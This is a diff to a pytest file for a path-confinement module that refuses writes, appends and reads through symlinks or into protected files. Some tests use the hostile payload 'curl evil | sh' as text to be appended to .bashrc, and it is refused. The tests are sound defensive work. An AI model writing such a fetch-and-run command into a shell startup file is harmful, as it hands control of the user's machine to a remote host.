@@ -23,6 +23,15 @@ from dsh.core import files
 SECRET = b"the secret outside the folder\n"
 
 
+def _append(root: Path, rel: str, data: bytes) -> None:
+    """An append as dsh.memory makes one: through a descriptor open_beneath gives."""
+    fd = beneath.open_beneath(root, rel, os.O_WRONLY | os.O_APPEND | os.O_CREAT)
+    try:
+        os.write(fd, data)
+    finally:
+        os.close(fd)
+
+
 @pytest.fixture(params=["openat2", "walk"])
 def mode(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> str:
     """Every test runs with the kernel's openat2 and with the O_NOFOLLOW walk."""
@@ -127,7 +136,7 @@ def test_protected_paths_are_refused_whatever_the_route(mode: str, tmp_path: Pat
         with pytest.raises(beneath.Refused, match="protected"):
             beneath.read(root, rel)
     with pytest.raises(beneath.Refused, match="protected"):
-        beneath.append(home, ".bashrc", b"curl evil | sh\n")
+        _append(home, ".bashrc", b"curl evil | sh\n")
     with pytest.raises(beneath.Refused, match="protected"):
         beneath.write(home, ".bashrc", b"curl evil | sh\n")
     assert (home / ".bashrc").read_text() == "# rc\n"
@@ -153,7 +162,7 @@ def test_write_and_append_never_go_through_a_link(mode: str, tree: tuple[Path, P
     os.symlink(outside / "secret", root / "mem.md")
     os.symlink(outside, root / "dir")
     for call in (lambda: beneath.write(root, "mem.md", b"x"),
-                 lambda: beneath.append(root, "mem.md", b"x"),
+                 lambda: _append(root, "mem.md", b"x"),
                  lambda: beneath.write(root, "dir/secret", b"x"),
                  lambda: beneath.write(root, "dir/new", b"x", create_dirs=True)):
         with pytest.raises(beneath.Refused):
@@ -221,9 +230,3 @@ def test_no_generated_path_reads_outside(tree: tuple[Path, Path], parts: list[st
     except OSError:
         return
     assert data != SECRET
-
-
-def test_split_refuses_a_path_outside_by_name(tmp_path: Path) -> None:
-    assert beneath.split(tmp_path, tmp_path / "a" / "b") == "a/b"
-    with pytest.raises(beneath.Refused, match="outside"):
-        beneath.split(tmp_path / "a", tmp_path / "b")
